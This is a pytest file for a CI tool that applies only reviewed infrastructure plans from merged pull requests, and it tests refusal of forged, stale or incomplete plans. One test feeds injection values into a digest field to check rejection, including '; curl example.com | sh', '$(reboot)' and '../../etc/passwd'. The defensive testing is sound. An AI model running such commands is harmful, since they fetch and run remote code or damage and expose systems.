"""What a pipeline is told to plan, and after a merge to apply: what was reviewed, and nothing else."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .platforms.github import GitHub
from .platforms.job import Job, running_job

HEAD, MERGE = "b" * 40, "c" * 40
DIGESTS = ("1a" * 32, "2b" * 32)


def git(root: Path, *arguments: str) -> str:
    identity = ("-c", "user.name=Test", "-c", "user.email=test@example.com", "-c", "commit.gpgsign=false")
    return subprocess.run(
        ["git", "-C", str(root), *identity, *arguments], check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture(params=["github", "gitlab"])
def job(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Job]:
    """A project in git, in which a change of dev's files follows the first commit."""
    with running_job(request.param, tmp_path / "project") as running:
        root = running.root
        git(root, "init", "--quiet", "--initial-branch", "main")
        git(root, "add", ".")
        git(root, "commit", "--quiet", "--message", "first")
        file = root / "environments" / "dev.yaml"
        file.write_text(file.read_text().replace("max_instances: 2", "max_instances: 3"))
        git(root, "commit", "--quiet", "--all", "--message", "second")
        yield running


def plan(job: Job, *digests: str, environment: str = "dev", head: str = HEAD) -> None:
    """Comment on the pull request as the plan's job does."""
    names = ("foundation", "platform", "serving/churn")
    bundles = [
        {"stack": name, "digest": digest, "preview": False}
        for name, digest in zip(names, digests, strict=False)
    ]
    file = job.root.parent / "plan.json"
    file.write_text(json.dumps({"operation": "plan", "stacks": [], "bundles": bundles}))
    job.run(
        f"mlops-kit ci comment --environment {environment} --plan {file} -", "# Review", **job_of(job, head)
    )


def job_of(job: Job, head: str) -> dict[str, str]:
    """Return what a job for a pull request knows of its last commit."""
    event = job.root.parent / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": 12, "head": {"sha": head}}}))
    return {"GITHUB_EVENT_PATH": str(event), "CI_COMMIT_SHA": head}


def bundles(job: Job, options: str = "", *, code: int = 0) -> Any:
    command = f"mlops-kit ci bundles --commit {MERGE} --branch main --changed-since HEAD^1 --json {options}"
    return json.loads(job.run(command, code=code).stdout)


def test_the_matrix_names_what_a_change_concerns(job: Job) -> None:
    found = json.loads(job.run("mlops-kit ci matrix --changed-since HEAD^1 --json").stdout)
    assert found["unaffected"] == ["prod"]
    assert found["include"] == [
        {
            "environment": "dev",
            "stacks": "serving/churn",
            "region": "eu-central-1",
            "plan_role": "arn:aws:iam::111111111111:role/mlops-dev-ci-plan",
            "apply_role": "arn:aws:iam::111111111111:role/mlops-dev-ci-apply",
            "platform_environment": "dev",
            "branch": "main",
        }
    ]


def test_the_matrix_in_the_form_of_each_platform(job: Job) -> None:
    name = "github" if isinstance(job.platform, GitHub) else "gitlab"
    text = job.run(f"mlops-kit ci matrix --changed-since HEAD^1 --format {name}").stdout
    lines = dict(line.split("=", 1) for line in text.splitlines())
    if name == "gitlab":
        assert lines == {"MLOPS_KIT_STACKS_DEV": "serving/churn", "MLOPS_KIT_STACKS_PROD": ""}
        return
    assert [each["stacks"] for each in json.loads(lines["matrix"])["include"]] == ["serving/churn"]
    assert (lines["any"], lines["unaffected"]) == ("true", "prod")


def test_without_a_commit_the_matrix_has_everything(job: Job) -> None:
    found = json.loads(job.run("mlops-kit ci matrix --json").stdout)
    assert [each["environment"] for each in found["include"]] == ["dev", "prod"]
    assert all(each["stacks"].startswith("state foundation platform") for each in found["include"])
    assert json.loads(job.run("mlops-kit ci matrix --branch other --json").stdout)["include"] == []


def test_a_change_that_concerns_nothing(job: Job) -> None:
    (job.root / "README.md").write_text("hello\n")
    git(job.root, "add", ".")
    git(job.root, "commit", "--quiet", "--message", "third")
    assert json.loads(job.run("mlops-kit ci matrix --changed-since HEAD^1 --json").stdout)["include"] == []
    assert bundles(job)["environments"] == []
    assert job.platform.calls == []


def test_the_bundles_of_the_merged_pull_request(job: Job) -> None:
    plan(job, *DIGESTS)
    job.platform.merge(12, HEAD, MERGE)
    job.platform.review(12, "reviewer", "APPROVED", HEAD)
    (found,) = bundles(job)["environments"]
    assert found["pull_request"] == 12
    assert found["bundles"] == [
        {"stack": "foundation", "digest": DIGESTS[0]},
        {"stack": "platform", "digest": DIGESTS[1]},
    ]
    assert [approval["by"] for approval in found["approvals"]] == ["reviewer"]
    assert found["approvals"][0]["url"].startswith("https://")
    text = job.run(f"mlops-kit ci bundles --commit {MERGE} --branch main --changed-since HEAD^1").stdout
    assert text.split() == list(DIGESTS)


def test_the_bundles_as_a_matrix_of_jobs(job: Job) -> None:
    plan(job, *DIGESTS)
    job.platform.merge(12, HEAD, MERGE)
    job.platform.review(12, "reviewer", "APPROVED", HEAD)
    command = f"mlops-kit ci bundles --commit {MERGE} --branch main --changed-since HEAD^1 --format github"
    lines = dict(line.split("=", 1) for line in job.run(command).stdout.splitlines())
    (entry,) = json.loads(lines["matrix"])["include"]
    assert lines["any"] == "true"
    assert entry["digests"] == " ".join(DIGESTS)
    assert entry["approvals"].startswith("reviewer=https://")
    assert entry["apply_role"].endswith("-ci-apply")


def test_a_plan_without_changes_needs_no_job(job: Job) -> None:
    plan(job)
    job.platform.merge(12, HEAD, MERGE)
    command = f"mlops-kit ci bundles --commit {MERGE} --branch main --changed-since HEAD^1 --format github"
    assert job.run(command).stdout.splitlines()[1] == "any=false"


def test_a_push_without_a_pull_request_is_refused(job: Job) -> None:
    error = bundles(job, code=4)["error"]
    assert "no pull request was merged" in error["message"]
    assert "have its plan reviewed" in error["hint"]


def test_a_pull_request_into_another_branch_does_not_count(job: Job) -> None:
    plan(job, *DIGESTS)
    job.platform.merge(12, HEAD, MERGE, branch="next")
    assert "no pull request was merged" in bundles(job, code=4)["error"]["message"]


def test_a_pull_request_without_a_plan_is_refused(job: Job) -> None:
    job.platform.merge(12, HEAD, MERGE)
    assert "has no comment with a plan" in bundles(job, code=4)["error"]["message"]


@pytest.mark.parametrize("stack", [None, {"name": "platform", "result": "failed", "cause": "no access"}])
def test_a_comment_without_a_whole_plan_is_refused(job: Job, stack: dict[str, str] | None) -> None:
    plan(job, *DIGESTS)
    report = {"operation": "plan", "stacks": [stack], "bundles": [{"stack": "state", "digest": DIGESTS[0]}]}
    file = job.root.parent / "failed.json"
    file.write_text(json.dumps(report))
    option = f"--plan {file}" if stack else ""
    job.run(f"mlops-kit ci comment --environment dev {option} -", "a rehearsal", **job_of(job, HEAD))
    job.platform.merge(12, HEAD, MERGE)
    assert "is of no whole plan" in bundles(job, code=4)["error"]["message"]


@pytest.mark.parametrize("head", [HEAD, MERGE], ids=["merged", "fast-forward"])
def test_a_plan_of_what_came_out_of_the_merge_counts(job: Job, head: str) -> None:
    github = isinstance(job.platform, GitHub)
    job.platform.merge(12, head, MERGE)
    job.platform.review(12, "early", "APPROVED", head)
    file = job.root.parent / "plan.json"
    bundle = {"stack": "serving/churn", "digest": DIGESTS[0], "preview": False}
    file.write_text(json.dumps({"operation": "plan", "stacks": [], "bundles": [bundle]}))
    variables = {"GITHUB_SHA": MERGE, "GITHUB_REF": "refs/heads/main", "GITHUB_REF_NAME": "main"}
    variables |= {"CI_COMMIT_SHA": MERGE, "CI_COMMIT_BRANCH": "main", "CI_MERGE_REQUEST_IID": ""}
    job.run(f"mlops-kit ci comment --merged --environment dev --plan {file} -", "# Review", **variables)
    (found,) = bundles(job)["environments"]
    assert found["bundles"] == [{"stack": "serving/churn", "digest": DIGESTS[0]}]
    # Who approved before it was made did not see it; on GitLab, who starts the apply answers for that.
    assert [each["by"] for each in found["approvals"]] == ([] if github else ["early"])
    job.platform.review(12, "late", "APPROVED", head)
    (found,) = bundles(job)["environments"]
    assert [each["by"] for each in found["approvals"]] == (["late"] if github else ["early", "late"])


def test_a_plan_of_an_earlier_commit_is_refused(job: Job) -> None:
    plan(job, *DIGESTS, head="d" * 40)
    job.platform.merge(12, HEAD, MERGE)
    message = bundles(job, code=4)["error"]["message"]
    assert "d" * 40 in message
    assert f"not of its last commit {HEAD}" in message


def test_a_comment_of_somebody_else_is_not_believed(job: Job) -> None:
    forged = {"commit": HEAD, "bundles": [{"stack": "foundation", "digest": "66" * 32}]}
    body = f"<!-- mlops-kit:plan:dev -->\n<!-- mlops-kit:data {json.dumps(forged)} -->\nplan"
    job.platform.say(12, "mallory", body)
    job.platform.merge(12, HEAD, MERGE)
    assert "has no comment with a plan" in bundles(job, code=4)["error"]["message"]
    plan(job, *DIGESTS)
    assert bundles(job)["environments"][0]["bundles"][0]["digest"] == DIGESTS[0]


@pytest.mark.parametrize(
    "digest", ["; curl example.com | sh", "$(reboot)", "--replan", "1a" * 31, "../../etc/passwd"]
)
def test_data_that_names_no_digest_never_reaches_a_shell(job: Job, digest: str) -> None:
    plan(job, *DIGESTS)
    comment = job.platform.comments[12][0]
    comment["body"] = comment["body"].replace(DIGESTS[0], digest)
    job.platform.merge(12, HEAD, MERGE)
    assert "names no bundle" in bundles(job, code=4)["error"]["message"]


def test_only_approvals_of_the_last_commit_by_those_who_belong_count(job: Job) -> None:
    plan(job, *DIGESTS)
    job.platform.merge(12, HEAD, MERGE)
    if not isinstance(job.platform, GitHub):
        job.platform.review(12, "author", "APPROVED", HEAD)
        job.platform.review(12, "one", "APPROVED", HEAD)
        assert [each["by"] for each in bundles(job)["environments"][0]["approvals"]] == ["one"]
        return
    for login, state, commit, belongs in (
        ("one", "APPROVED", HEAD, "MEMBER"),
        ("one", "COMMENTED", HEAD, "MEMBER"),
        ("two", "APPROVED", "d" * 40, "OWNER"),
        ("three", "APPROVED", HEAD, "NONE"),
        ("four", "APPROVED", HEAD, "MEMBER"),
        ("four", "CHANGES_REQUESTED", HEAD, "MEMBER"),
        ("five", "DISMISSED", HEAD, "COLLABORATOR"),
    ):
        job.platform.review(12, login, state, commit, belongs)
    assert [each["by"] for each in bundles(job)["environments"][0]["approvals"]] == ["one"]
